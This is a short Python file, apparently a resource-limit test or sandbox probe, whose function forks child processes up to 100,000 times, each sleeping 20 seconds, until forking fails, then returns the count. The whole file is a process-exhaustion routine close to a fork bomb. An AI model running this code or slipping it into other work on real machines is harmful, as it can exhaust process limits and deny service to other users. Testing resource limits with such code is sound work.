"""Forks until nothing goes any more."""

import os
import time


def same(text):
    started = 0
    while started < 100_000:
        try:
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
        except OSError:
            break
        started += 1
    return f"{started}"
